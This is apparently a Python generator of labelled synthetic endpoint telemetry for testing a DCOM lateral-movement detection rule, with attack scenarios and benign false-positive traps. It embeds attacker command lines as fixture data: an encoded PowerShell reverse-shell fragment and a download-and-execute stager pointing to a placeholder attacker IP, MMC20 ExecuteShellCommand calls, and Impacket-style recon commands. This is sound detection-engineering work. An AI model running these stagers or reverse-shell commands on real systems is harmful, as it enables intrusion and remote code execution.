"""The labelled scenarios of section 5.4 (attacks and their neighbours) and the seed's false-positive traps.

Each scenario is data (id, name, technique, whether it is malicious, what the seed rule should do with it
and why) plus a builder that writes its processes and events through a `planner.Ctx`. Timings, command
lines and process trees follow the OTRF recordings and tool sources quoted in the DCOM domain notes.

`expected_seed` is decided from the seed rule as written, run over the whole generated data set:
it fires on a child process row C when some InboundConnectionAccepted row N has
N.InitiatingProcessParentFileName == "svchost.exe", N.RemoteIP !contains "127.0.0.1",
N.InitiatingProcessFileName != "raserver.exe", and some process row P with the same device, PID and file
name as N's owner has InitiatingProcessCommandLine containing "svchost.exe -k DcomLaunch"; C's device,
InitiatingProcessId and InitiatingProcessFileName equal that key; and C.FileName != "WerFault.exe".
No time window, no creation time in the keys, case-sensitive `==`.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass

from kqlite.generate.catalog import FileEntry, plain, unsigned
from kqlite.generate.columns import SECOND
from kqlite.generate.model import (
    ATTACKER_LINUX_IP,
    NETWORK_SERVICE,
    NETWORK_SERVICE_LOGON,
    SYSTEM,
    SYSTEM_LOGON,
    link_local,
    service_port,
)
from kqlite.generate.planner import Ctx

TP, FN, FP, TN = "TP", "FN", "FP", "TN"
LATERAL, WMI = "T1021.003", "T1047"


@dataclass(frozen=True)
class Scenario:
    id: str
    name: str
    technique: str
    malicious: bool
    expected_seed: str
    why: str
    build: Callable[[Ctx], None]
    target: str = "attack"           # device selector (see Plan._candidates)
    source: str = "linux"            # linux | foothold | helpdesk | mgmt | apptier | local
    duration_s: float = 180.0        # nominal length; compressed to fit short runs
    rate: float = 1.0                # extra instances per 12,000 device-hours ("fleet") or per role device-hour
    per: str = "fleet"               # fleet | role

    def __str__(self) -> str:
        return self.id


# --- payload text -------------------------------------------------------------------------------------------------

def _enc(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


REVERSE = _enc(f"$c=New-Object Net.Sockets.TCPClient('{ATTACKER_LINUX_IP}',443);$s=$c.GetStream()")
STAGER = _enc(f"IEX (New-Object Net.WebClient).DownloadString('http://{ATTACKER_LINUX_IP}/s')")
CMD = r'"C:\Windows\System32\cmd.exe"'
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
EXCEL = r'"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" /automation -Embedding'
C2R = r'"C:\Program Files\Microsoft Office\root\Client\AppVDllSurrogate64.exe" {0358B920-0AC7-461F-98F4-58E32CD89148} -Embedding'
OPERATOR = ("whoami", "ipconfig /all", 'net group "domain admins" /domain', "tasklist /v", "systeminfo", "net user /domain",
            "quser", f"powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc {STAGER}")


# --- shared pieces -------------------------------------------------------------------------------------------------

def shell(ctx: Ctx, parent: int, cmd: str, time: int, image: str = "cmd.exe", **identity: object) -> int:
    """A cmd.exe (or other console program) child with its conhost.exe grandchild."""
    child = ctx.spawn(parent, image, cmd, time, **identity)
    ctx.spawn(child, "conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", ctx.after(time, 5, 60))
    return child


def operator_command(ctx: Ctx, parent: int, command: str, out: str, time: int) -> None:
    """One `dcomexec.py` semi-interactive command: cmd.exe /Q /c <command> 1> \\\\127.0.0.1\\ADMIN$\\<out> 2>&1."""
    cmd = shell(ctx, parent, rf"{CMD} /Q /c {command} 1> \\127.0.0.1\ADMIN$\{out} 2>&1", time)
    tool = command.split()[0]
    images = {"whoami": "whoami.exe", "ipconfig": "ipconfig.exe", "net": "net.exe", "tasklist": "tasklist.exe",
              "systeminfo": "systeminfo.exe", "powershell.exe": "powershell.exe"}
    if tool in images:
        grandchild = ctx.spawn(cmd, images[tool], command, ctx.after(time, 20, 200))
        if tool == "net":
            ctx.spawn(grandchild, "net1.exe", r"C:\Windows\system32\net1 " + command.split(" ", 1)[1], ctx.after(time, 40, 300))
        if tool == "powershell.exe":
            ctx.outbound(grandchild, ctx.after(time, 1500, 5000), ATTACKER_LINUX_IP, 80, riptype="Private")


def mmc20(ctx: Ctx, linux: bool, smb: bool) -> tuple[int, int, int]:
    """MMC20.Application activation: logon, :135, mmc.exe -Embedding from DcomLaunch, listener, bind."""
    logon = ctx.prelude("NTLM" if linux else "Kerberos", smb, rdev="" if linux else ctx.estate.devices[ctx.instance.notes["source_dev"]].short)
    t = ctx.after(ctx.t0, 50, 300)
    mmc = ctx.server("mmc.exe", r"C:\Windows\system32\mmc.exe -Embedding", t, logon)
    port = ctx.dyn_port()
    ctx.listen(mmc, ctx.after(t, 100, 500), port)
    bind = ctx.after(t, 300, 1500)
    ctx.instance.notes.update(bind_port=port, bind_remote_port=ctx.ephemeral(linux))
    ctx.inbound(mmc, bind, ctx.src, ctx.instance.notes["bind_remote_port"], port)
    return logon, mmc, bind


def office_server(ctx: Ctx, image: str, cmd: str, bind_ms: tuple[int, int] = (2000, 7000), acct: int | None = None,
                  proto: str = "Kerberos", logon: int | None = None) -> tuple[int, int, int]:
    """An Office application launched for a remote caller; Excel takes seconds before it accepts the bind."""
    if logon is None:
        logon = ctx.prelude(proto, rdev=_source_name(ctx))
    t = ctx.after(ctx.t0, 100, 200)
    server = ctx.server(image, cmd, t, logon, acct=acct)
    port = ctx.dyn_port()
    ctx.listen(server, ctx.after(t, bind_ms[0] - 500, bind_ms[0]), port)
    bind = ctx.after(t, *bind_ms)
    ctx.inbound(server, bind, ctx.src, ctx.ephemeral(proto == "NTLM"), port)
    ctx.outbound(server, ctx.after(t, 3000, 9000), "52.109.76.240", 443, "officeclient.microsoft.com")
    return logon, server, bind


def c2r_children(ctx: Ctx, office: int, base: int, delays_ms: tuple[tuple[int, int], ...]) -> None:
    """Click-to-Run's AppVDllSurrogate64.exe children of an automated Office process (benign)."""
    for lo, hi in delays_ms:
        ctx.spawn(office, "AppVDllSurrogate64.exe", C2R, ctx.after(base, lo, hi))


def _source_name(ctx: Ctx) -> str:
    dev = ctx.instance.notes.get("source_dev")
    return "" if dev is None else ctx.estate.devices[dev].short


def _smb_drop(ctx: Ctx, key: str, entry: FileEntry | None, time: int, share: str = "C$") -> None:
    ctx.file(ctx.slot("system", time), time, key, entry, smb_from=ctx.src, smb_acct=ctx.attacker, share=share)


def _impacket_out(ctx: Ctx) -> str:
    return "__" + str(ctx.t0 // SECOND)[:5]


def _user(ctx: Ctx) -> dict[str, int]:
    return ctx.record(ctx.slot("explorer"))


# --- attacks (5.4) -----------------------------------------------------------------------------------------------

def a1_mmc20_impacket(ctx: Ctx) -> None:
    _, mmc, bind = mmc20(ctx, linux=True, smb=True)
    out = _impacket_out(ctx)
    t = ctx.after(bind, 100, 500)
    first = shell(ctx, mmc, rf"{CMD} /Q /c cd \ 1> \\127.0.0.1\ADMIN$\{out} 2>&1", t)
    ctx.file(first, ctx.after(t, 20, 200), rf"C:\Windows\{out}", plain(out, r"C:\Windows", 2))
    ctx.file(ctx.slot("system", t), ctx.after(t, 400, 900), rf"C:\Windows\{out}", action="FileDeleted", smb_from=ctx.src,
             smb_acct=ctx.attacker, share="ADMIN$")
    spacing = max(10_000, min(600_000, ctx.budget // 1000 // 5))
    for command in ctx.rng.choice(OPERATOR, size=int(ctx.rng.integers(2, 5)), replace=False):
        t = ctx.after(t, 10_000, spacing)
        operator_command(ctx, mmc, str(command), out, t)


def a2_mmc20_netexec(ctx: Ctx) -> None:
    _, mmc, bind = mmc20(ctx, linux=True, smb=True)
    name = "".join(ctx.rng.choice(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"), 6))
    t = ctx.after(bind, 100, 400)
    cmd = shell(ctx, mmc, rf'"c:\windows\system32\cmd.exe" c:\windows\system32\cmd.exe /Q /c whoami 1> \Windows\Temp\{name} 2>&1', t)
    ctx.spawn(cmd, "whoami.exe", "whoami", ctx.after(t, 30, 200))
    ctx.file(cmd, ctx.after(t, 100, 300), rf"C:\Windows\Temp\{name}", plain(name, r"C:\Windows\Temp", 48))
    ctx.file(ctx.slot("system", t), ctx.after(t, 400, 1000), rf"C:\Windows\Temp\{name}", action="FileDeleted", smb_from=ctx.src,
             smb_acct=ctx.attacker, share="C$")


def a3_mmc20_powershell(ctx: Ctx) -> None:
    source = ctx.instance.notes["source_dev"]
    target_ip = ctx.ip()
    ps_cmd = (rf'"{PS}" -nop -c "$c=[activator]::CreateInstance([type]::GetTypeFromProgID(\"MMC20.Application\",\"{target_ip}\"));'
              rf'$c.Document.ActiveView.ExecuteShellCommand(\"cmd.exe\",$null,\"/c powershell -nop -w hidden -enc {REVERSE}\",\"7\")"')
    ps = ctx.spawn(ctx.slot("explorer", dev=source), "powershell.exe", ps_cmd, ctx.after(ctx.t0, -5000, -2000), dev=source)
    ctx.outbound(ctx.slot("rpcss", dev=source), ctx.t0 - 10_000, target_ip, 135, riptype="Private", dev=source)
    _, mmc, bind = mmc20(ctx, linux=False, smb=False)
    notes = ctx.instance.notes
    ctx.outbound(ps, bind - 2_000, target_ip, notes["bind_port"], riptype="Private", dev=source, lport=notes["bind_remote_port"])
    t = ctx.after(bind, 100, 500)
    if ctx.rng.random() < 0.3:
        ctx.spawn(mmc, "calc.exe", r'"C:\Windows\System32\calc.exe"', t)
        return
    cmd = shell(ctx, mmc, rf"{CMD} /c powershell -nop -w hidden -enc {REVERSE}", t)
    ps2 = ctx.spawn(cmd, "powershell.exe", f"powershell  -nop -w hidden -enc {REVERSE}", ctx.after(t, 50, 300))
    ctx.outbound(ps2, ctx.after(t, 800, 3000), ATTACKER_LINUX_IP, 443, riptype="Private")


def _shell_object(ctx: Ctx, browser_window: bool) -> None:
    """ShellWindows / ShellBrowserWindow: the logged-on user's explorer.exe serves the object."""
    ctx.prelude("NTLM", smb=True)
    explorer = ctx.slot("explorer")
    user = ctx.record(explorer)
    if browser_window and ctx.rng.random() < 0.7:  # transient local server, no inbound, exits [I]
        ctx.spawn(ctx.slot("dcomlaunch"), "rundll32.exe",
                  r"C:\Windows\system32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {c08afd90-f2a1-11d1-8455-00a0c91f3880} -Embedding",
                  ctx.after(ctx.t0, 40, 150), acct=user["acct"], logon=user["logon"], integrity="Medium", session=user["sess"])
    bind = ctx.after(ctx.t0, 50, 150)
    ctx.inbound(explorer, bind, ctx.src, ctx.ephemeral(True), ctx.dyn_port())
    t = ctx.after(bind, 150, 400)
    if ctx.rng.random() < 0.5:  # Empire Invoke-DCOM
        cmd = shell(ctx, explorer, rf"{CMD} /c %COMSPEC% /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc {STAGER}", t)
        ps = ctx.spawn(cmd, "powershell.exe", rf"C:\Windows\System32\WindowsPowershell\v1.0\powershell  -noP -sta -w 1 -enc {STAGER}",
                       ctx.after(t, 100, 600))
        ctx.outbound(ps, ctx.after(t, 4000, 6000), ATTACKER_LINUX_IP, 80, riptype="Private")
    else:  # Impacket dcomexec.py (ShellWindows is its default object)
        out = _impacket_out(ctx)
        shell(ctx, explorer, rf"{CMD} /Q /c cd \ 1> \\127.0.0.1\ADMIN$\{out} 2>&1", t)
        operator_command(ctx, explorer, "whoami", out, ctx.after(t, 10_000, 60_000))


def a4_shellwindows(ctx: Ctx) -> None:
    _shell_object(ctx, browser_window=False)


def a5_shellbrowserwindow(ctx: Ctx) -> None:
    _shell_object(ctx, browser_window=True)


def a6_excel_dde(ctx: Ctx) -> None:
    logon, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL)
    t = ctx.after(bind, 100, 1000)
    cmd = shell(ctx, excel, f"cmd  /c powershell -nop -w hidden -enc {REVERSE}", t)
    ps = ctx.spawn(cmd, "powershell.exe", f"powershell  -nop -w hidden -enc {REVERSE}", ctx.after(t, 50, 300))
    ctx.outbound(ps, ctx.after(t, 800, 3000), ATTACKER_LINUX_IP, 443, riptype="Private")
    c2r_children(ctx, excel, bind, ((5000, 9000), (9000, 15000)))
    # A COM surrogate in the attacker's logon session ~16 s later [D]
    ctx.server("dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
               ctx.after(bind, 15000, 17000), logon)


def a7_excel_registerxll(ctx: Ctx) -> None:
    name = str(ctx.rng.choice(["calc.xll", "addin.xll", "update.xll"]))
    xll = unsigned(name, r"C:\ProgramData", 9216, salt=f"xll{ctx.instance.number}")
    _smb_drop(ctx, rf"C:\ProgramData\{name}#{ctx.instance.number}", xll, ctx.after(ctx.t0, -30_000, -5_000))
    _, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL)
    ctx.load(excel, ctx.after(bind, 100, 200), rf"C:\ProgramData\{name}#{ctx.instance.number}")
    # Excel terminates ~220 ms after loading the XLL and the WER service starts [D]; the recordings show no
    # child of EXCEL.EXE at all (no WerFault.exe): the payload runs inside Excel.
    crash = ctx.after(bind, 300, 1200)
    ctx.spawn(ctx.slot("services", crash), "svchost.exe", r"C:\Windows\System32\svchost.exe -k WerSvcGroup", ctx.after(crash, 5, 80),
              acct=SYSTEM, logon=SYSTEM_LOGON, integrity="System", elevation="TokenElevationTypeDefault", session=0)


def a8_excel4_shellcode(ctx: Ctx) -> None:
    _, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL)
    ctx.outbound(excel, ctx.after(bind, 1000, 3000), ATTACKER_LINUX_IP, 443, riptype="Private")
    c2r_children(ctx, excel, bind, ((9000, 9200), (10000, 10200)))  # the only children: benign Click-to-Run [D]


def a8b_excel4_exec(ctx: Ctx) -> None:
    _, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL)
    t = ctx.after(bind, 200, 1500)
    cmd = shell(ctx, excel, r"cmd.exe /c whoami /all > C:\Users\Public\o.txt", t)
    ctx.spawn(cmd, "whoami.exe", "whoami  /all", ctx.after(t, 30, 200))
    if ctx.rng.random() < 0.5:
        c2r_children(ctx, excel, bind, ((9000, 12000),))


def a9_excel_activatemicrosoftapp(ctx: Ctx) -> None:
    _smb_drop(ctx, "FOXPROW.EXE", None, ctx.after(ctx.t0, -60_000, -10_000))
    _, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL)
    fox = ctx.spawn(excel, "FOXPROW.EXE", r'"C:\Program Files\Microsoft Office\Root\Office16\FOXPROW.EXE" -Automation',
                    ctx.after(bind, 200, 800))
    ctx.outbound(fox, ctx.after(bind, 1500, 4000), ATTACKER_LINUX_IP, 443, riptype="Private")


OUTLOOK = r'"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" -Embedding'


def a10_outlook_shell(ctx: Ctx) -> None:
    _, outlook, bind = office_server(ctx, "OUTLOOK.EXE", OUTLOOK, (1000, 4000))
    t = ctx.after(bind, 150, 900)
    ps = shell(ctx, outlook, f'"{PS}" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://{ATTACKER_LINUX_IP}/a\')"',
               t, image="powershell.exe")
    ctx.outbound(ps, ctx.after(t, 600, 2500), ATTACKER_LINUX_IP, 80, riptype="Private")


def a10b_outlook_scriptcontrol(ctx: Ctx) -> None:
    _, outlook, bind = office_server(ctx, "OUTLOOK.EXE", OUTLOOK, (1000, 4000))
    t = bind
    for dll in ("msscript.ocx", "jscript.dll", "mscoree.dll", "clr.dll", "clrjit.dll"):
        t = ctx.after(t, 30, 400)
        ctx.load(outlook, t, dll)
    ctx.outbound(outlook, ctx.after(t, 500, 3000), ATTACKER_LINUX_IP, 443, riptype="Private")


def a11_visio_word(ctx: Ctx) -> None:
    image = "VISIO.EXE" if ctx.rng.random() < 0.6 else "WINWORD.EXE"
    _, office, bind = office_server(ctx, image, rf'"C:\Program Files\Microsoft Office\Root\Office16\{image}" /automation -Embedding',
                                    (1500, 5000))
    t = ctx.after(bind, 300, 2000)
    cmd = shell(ctx, office, rf"{CMD} /c powershell -nop -w hidden -enc {REVERSE}", t)
    ctx.spawn(cmd, "powershell.exe", f"powershell  -nop -w hidden -enc {REVERSE}", ctx.after(t, 50, 300))


def a12_ie_iertutil(ctx: Ctx) -> None:
    number = ctx.instance.number
    dll = unsigned("iertutil.dll", r"C:\Program Files\Internet Explorer", 3107840, salt=f"hijack{number}")
    key = rf"C:\Program Files\Internet Explorer\iertutil.dll#{number}"
    _smb_drop(ctx, key, dll, ctx.after(ctx.t0, -11_000, -9_000))
    logon = ctx.prelude("Kerberos", rdev=_source_name(ctx))
    # As recorded: the :135 connection(s) first, the inbound to ielowutil.exe under a second later, and the
    # process creations only after it (ielowutil's own creation is stamped ~10 s after its inbound) [D].
    inbound = ctx.after(ctx.t0, 150, 900)
    t = inbound + int(ctx.rng.integers(9_000, 11_000)) * 1000
    low = ctx.server("ielowutil.exe",
                     r'"C:\Program Files (x86)\Internet Explorer\ielowutil.exe" -CLSID:{0002DF01-0000-0000-C000-000000000046} -Embedding',
                     t, logon)
    ie_t = ctx.after(t, 20, 200)
    ie = ctx.server("iexplore.exe", r'"C:\Program Files\Internet Explorer\iexplore.exe" -Embedding', ie_t, logon)
    ctx.load(ie, ctx.after(ie_t, 50, 200), key)
    ctx.spawn(ie, "notepad.exe", r'"c:\windows\system32\notepad.exe"', ctx.after(ie_t, 300, 900))
    tab_t = ctx.after(ie_t, 400, 1200)
    tab = ctx.spawn(ie, "IEXPLORE.EXE",
                    rf'"C:\Program Files (x86)\Internet Explorer\IEXPLORE.EXE" SCODEF:{ctx.pid_of(ie)} CREDAT:17410 /prefetch:2',
                    tab_t, integrity="Low")
    ctx.inbound(low, inbound, ctx.src, ctx.ephemeral(False), ctx.dyn_port())
    ctx.inbound(tab, ctx.after(tab_t, 500, 3000), ctx.src, ctx.ephemeral(False), ctx.dyn_port())


def _lethalhta(ctx: Ctx, child: bool) -> None:
    logon = ctx.prelude("NTLM")
    t = ctx.after(ctx.t0, 100, 400)
    mshta = ctx.server("mshta.exe", r"C:\Windows\System32\mshta.exe -Embedding", t, logon)
    # As recorded: the inbound is stamped ~4 s before mshta's creation.
    ctx.inbound(mshta, t - int(ctx.rng.integers(3_000, 5_000)) * 1000, ctx.src, ctx.ephemeral(True), ctx.dyn_port())
    if child:
        c = ctx.spawn(mshta, "powershell.exe", f'"{PS}" -nop -w hidden -enc {REVERSE}', ctx.after(t, 1000, 3000))
        ctx.outbound(c, ctx.after(t, 2000, 5000), ATTACKER_LINUX_IP, 443, riptype="Private")
    else:
        ctx.load(mshta, ctx.after(t, 200, 800), "jscript9.dll")
        ctx.outbound(mshta, ctx.after(t, 1000, 4000), ATTACKER_LINUX_IP, 443, riptype="Private")


def a13_lethalhta_child(ctx: Ctx) -> None:
    _lethalhta(ctx, child=True)


def a13b_lethalhta_inmemory(ctx: Ctx) -> None:
    _lethalhta(ctx, child=False)


def a14_imsiserver(ctx: Ctx) -> None:
    ctx.prelude("NTLM")
    t = ctx.after(ctx.t0, 200, 1000)
    msi = ctx.spawn(ctx.slot("services", t), "msiexec.exe", r"C:\Windows\system32\msiexec.exe /V", t, acct=SYSTEM, logon=SYSTEM_LOGON,
                    integrity="System", elevation="TokenElevationTypeDefault", session=0)
    bind = ctx.after(t, 300, 4000)
    ctx.inbound(msi, bind, ctx.src, int(ctx.rng.integers(49152, 61000)), ctx.dyn_port())
    name = f"MSI{int(ctx.rng.integers(0x1000, 0xFFFF)):X}.tmp"
    key = rf"C:\Windows\Installer\{name}#{ctx.instance.number}"
    ctx.file(msi, ctx.after(bind, 100, 600), key, unsigned(name, r"C:\Windows\Installer", 112640, salt=key))
    ctx.load(msi, ctx.after(bind, 700, 1500), key)


def a15_wmi_win32_process(ctx: Ctx) -> None:
    logon = ctx.prelude("NTLM", smb=True)
    ctx.inbound(ctx.slot("winmgmt"), ctx.after(ctx.t0, 100, 400), ctx.src, ctx.ephemeral(True), ctx.dyn_port())
    t = ctx.after(ctx.t0, 300, 1200)
    wmi = ctx.spawn(ctx.slot("dcomlaunch", t), "WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", t,
                    acct=NETWORK_SERVICE, logon=NETWORK_SERVICE_LOGON, integrity="System", session=0)
    out = f"__{ctx.t0 / SECOND:.2f}"
    c = ctx.after(t, 200, 900)
    cmd = shell(ctx, wmi, rf"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\{out} 2>&1", c, acct=ctx.attacker, logon=logon,
                integrity="High", elevation="TokenElevationTypeFull")
    ctx.spawn(cmd, "whoami.exe", "whoami", ctx.after(c, 20, 200))


def a16a_blocked(ctx: Ctx) -> None:
    """Firewall drops :135: the target records nothing; only the managed source's failed connections."""
    source = ctx.instance.notes["source_dev"]
    rpcss = ctx.slot("rpcss", dev=source)
    for delay in (0, 4000, 8000):  # SYN retries [D]
        ctx.outbound(rpcss, ctx.t0 + delay * 1000, ctx.ip(), 135, riptype="Private", action="ConnectionFailed", dev=source)


def a16b_access_denied(ctx: Ctx) -> None:
    ctx.prelude("NTLM")


def a16c_no_desktop(ctx: Ctx) -> None:
    ctx.prelude("NTLM", smb=True)


def a17_long_session(ctx: Ctx) -> None:
    _, mmc, bind = mmc20(ctx, linux=True, smb=True)
    out = _impacket_out(ctx)
    operator_command(ctx, mmc, "cd \\", out, ctx.after(bind, 100, 500))
    for fraction in (0.35, 0.7, 0.97):  # the operator comes back hours later over the same connection
        operator_command(ctx, mmc, str(ctx.rng.choice(OPERATOR)), out, ctx.later(bind, fraction))


# --- benign neighbours and traps (5.3) ------------------------------------------------------------------------------

def b2_wmi_query(ctx: Ctx) -> None:
    source = ctx.instance.notes["source_dev"]
    ctx.logon(ctx.after(ctx.t0, -60, -5), ctx.estate.services["svc-sccm"], ctx.src, "Kerberos", rdev=ctx.estate.devices[source].short)
    ctx.inbound(ctx.slot("rpcss"), ctx.t0, ctx.src, ctx.ephemeral(False), 135)
    ctx.inbound(ctx.slot("winmgmt"), ctx.after(ctx.t0, 100, 300), ctx.src, ctx.ephemeral(False), service_port(ctx.estate.devices[ctx.dev].device_id) + 7)
    ctx.spawn(ctx.slot("dcomlaunch"), "WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", ctx.after(ctx.t0, 50, 1500),
              acct=NETWORK_SERVICE, logon=NETWORK_SERVICE_LOGON, integrity="System", session=0)


def _role_server_inbound(ctx: Ctx, slot: str, sources: list[str], count: int, spread_ms: int) -> int:
    server = ctx.slot(slot)
    port = service_port(ctx.estate.devices[ctx.dev].device_id)
    t = ctx.t0
    for _ in range(count):
        ctx.inbound(server, t, str(ctx.rng.choice(sources)), ctx.ephemeral(False), port)
        t = ctx.after(t, 200, spread_ms)
    return server


def _workstation_ips(ctx: Ctx) -> list[str]:
    return [d.ip for d in ctx.estate.devices if d.kind == "workstation"]


APP_TIER = [f"10.20.5.{11 + i}" for i in range(8)]
COMPLUS_BATCH_APPID = "9E2C41B7-5D3A-4F08-B6C1-7A0E3D5F8C24"  # Contoso OrderService batch component (B3b)


def b3a_unsecapp(ctx: Ctx) -> None:
    _role_server_inbound(ctx, "unsecapp", _workstation_ips(ctx), int(ctx.rng.integers(5, 20)), 20_000)


def b3b_complus_late_child(ctx: Ctx) -> None:
    """A COM+ server application activated by an app-tier host (its own dllhost.exe instance, not the all-day
    role server that background calls reach), called a few times, then idle; hours later (in a day-long run)
    its own timer runs a helper. No remote call reaches this instance after the first few minutes."""
    svc = ctx.estate.services["svc-app"]
    logon = ctx.logon(ctx.after(ctx.t0, -60, -5), svc, ctx.src, "NTLM", admin=0)
    ctx.inbound(ctx.slot("rpcss"), ctx.t0, ctx.src, ctx.ephemeral(True), 135)
    t = ctx.after(ctx.t0, 50, 300)
    server = ctx.spawn(ctx.slot("dcomlaunch", t), "dllhost.exe", rf"C:\Windows\system32\DllHost.exe /Processid:{{{COMPLUS_BATCH_APPID}}}",
                       t, acct=svc, logon=logon, integrity="High", elevation="TokenElevationTypeFull", session=0)
    port = ctx.dyn_port()
    call = ctx.after(t, 300, 1500)
    for _ in range(int(ctx.rng.integers(2, 5))):
        ctx.inbound(server, call, ctx.src, ctx.ephemeral(True), port)
        call = ctx.after(call, 2_000, 60_000)
    t = ctx.later(ctx.t0, 0.95)
    if ctx.rng.random() < 0.5:
        shell(ctx, server, r'"C:\Windows\system32\cmd.exe" /c "C:\Program Files\Contoso\OrderService\nightly.cmd"', t)
    else:
        ctx.spawn(server, "OrderSvcHelper.exe", r'"C:\Program Files\Contoso\OrderService\OrderSvcHelper.exe" /reindex', t)


def b3c_office_automation(ctx: Ctx) -> None:
    svc = ctx.estate.services["svc-report"]
    logon = ctx.logon(ctx.after(ctx.t0, -50, 0), svc, ctx.src, "Kerberos", admin=0)
    ctx.inbound(ctx.slot("rpcss"), ctx.t0, ctx.src, ctx.ephemeral(False), 135)
    _, excel, bind = office_server(ctx, "EXCEL.EXE", EXCEL, acct=svc, logon=logon)
    c2r_children(ctx, excel, bind, ((5000, 15000),))
    if ctx.rng.random() < 0.4:
        ctx.spawn(excel, "splwow64.exe", r"C:\Windows\splwow64.exe 8192", ctx.after(bind, 10_000, 60_000))
    if ctx.rng.random() < 0.2:
        ctx.spawn(excel, "OfficeC2RClient.exe",
                  r'"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe" /update USER displaylevel=false',
                  ctx.after(bind, 20_000, 90_000))
    name = f"daily_{int(ctx.rng.integers(1000, 9999))}.xlsx"
    ctx.file(excel, ctx.after(bind, 3000, 30_000), rf"D:\Reports\Out\{name}", plain(name, r"D:\Reports\Out", 48_213))


def _remote_assistance(ctx: Ctx, image: str) -> None:
    source = ctx.instance.notes["source_dev"]
    user = _user(ctx)
    ctx.logon(ctx.after(ctx.t0, -50, 0), ctx.estate.helpdesk, ctx.src, "Kerberos", admin=0, rdev=ctx.estate.devices[source].short)
    ctx.inbound(ctx.slot("rpcss"), ctx.t0, ctx.src, ctx.ephemeral(False), 135)
    t = ctx.after(ctx.t0, 100, 400)
    ra = ctx.spawn(ctx.slot("dcomlaunch", t), image, rf"C:\Windows\System32\{image} -Embedding", t, acct=user["acct"],
                   logon=user["logon"], integrity="Medium", elevation="TokenElevationTypeLimited", session=user["sess"])
    ctx.inbound(ra, ctx.after(t, 300, 1500), ctx.src, ctx.ephemeral(False), ctx.dyn_port())
    ctx.spawn(ra, "msra.exe", r'"C:\Windows\system32\msra.exe" /offerRA', ctx.after(t, 2000, 6000))


def b3d_remote_assistance(ctx: Ctx) -> None:
    _remote_assistance(ctx, "raserver.exe")


def b3e_remote_assistance_case(ctx: Ctx) -> None:
    _remote_assistance(ctx, "RAServer.exe")


LOOPBACK = {
    "B4a": ("127.0.0.1", "127.0.0.1", "Loopback"),
    "B4b": ("::ffff:127.0.0.1", "::ffff:127.0.0.1", "FourToSixMapping"),
    "B4c": ("::1", "::1", "Loopback"),
    "B4d": ("127.0.0.2", "127.0.0.1", "Loopback"),
}


def _local_dcom(ctx: Ctx, remote: str, local: str, iptype: str) -> None:
    """B4: a local agent talks DCOM over TCP to a DcomLaunch child on the same machine, which runs commands."""
    image, cmd = (("wsmprovhost.exe", r"C:\Windows\system32\wsmprovhost.exe -Embedding") if ctx.rng.random() < 0.6 else
                  ("dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{A1F4E726-8CF1-11D1-BF92-0060081ED811}"))
    t = ctx.after(ctx.t0, 0, 1000)
    host = ctx.spawn(ctx.slot("dcomlaunch", t), image, cmd, t, acct=SYSTEM, logon=SYSTEM_LOGON, integrity="System", session=0)
    ctx.inbound(host, ctx.after(t, 100, 600), remote, ctx.ephemeral(False), ctx.dyn_port(), lip=local, riptype=iptype, liptype=iptype)
    c = t
    for image, cmd in (("powershell.exe", f'"{PS}" -NoProfile -NonInteractive -Command "Get-Service | Where-Object Status -eq Running"'),
                       ("whoami.exe", r'"C:\Windows\system32\whoami.exe" /groups')):
        c = ctx.after(c, 800, 20_000)
        ctx.spawn(host, image, cmd, c)


def _loopback(key: str) -> Callable[[Ctx], None]:
    def build(ctx: Ctx) -> None:
        _local_dcom(ctx, *LOOPBACK[key])

    build.__name__ = f"{key.lower()}_loopback"
    return build


def b4e_own_ip(ctx: Ctx) -> None:
    _local_dcom(ctx, ctx.ip(), ctx.ip(), "Private")


def b4f_link_local(ctx: Ctx) -> None:
    address = link_local(ctx.estate.devices[ctx.dev].device_id)  # the address its background link-local traffic uses
    _local_dcom(ctx, address, address, "Private")


def b5_winrm(ctx: Ctx) -> None:
    source = ctx.instance.notes["source_dev"]
    admin = ctx.estate.admins[int(ctx.rng.integers(0, len(ctx.estate.admins)))]
    logon = ctx.logon(ctx.after(ctx.t0, -40, -5), admin, ctx.src, "Kerberos", rdev=ctx.estate.devices[source].short)
    ctx.inbound(ctx.slot("system"), ctx.t0, ctx.src, ctx.ephemeral(False), 5985)
    t = ctx.after(ctx.t0, 200, 900)
    host = ctx.spawn(ctx.slot("dcomlaunch", t), "wsmprovhost.exe", r"C:\Windows\system32\wsmprovhost.exe -Embedding", t, acct=admin,
                     logon=logon, integrity="High", elevation="TokenElevationTypeFull", session=0)
    c = t
    for image, cmd in (("HOSTNAME.EXE", r'"C:\Windows\system32\HOSTNAME.EXE"'), ("ipconfig.exe", r'"C:\Windows\system32\ipconfig.exe" /all')):
        c = ctx.after(c, 1000, 30_000)
        ctx.spawn(host, image, cmd, c)


def b6_pid_reuse(ctx: Ctx) -> None:
    """Instance A of dllhost.exe accepts remote calls and exits; hours later instance B gets the same PID
    (another AppID) and spawns children: the seed joins B's children to A's connection (no creation time)."""
    svc = ctx.estate.services["svc-app"]
    pid = ctx.estate.pids.allocate(ctx.dev, ctx.rng)
    logon = ctx.new_logon_id()
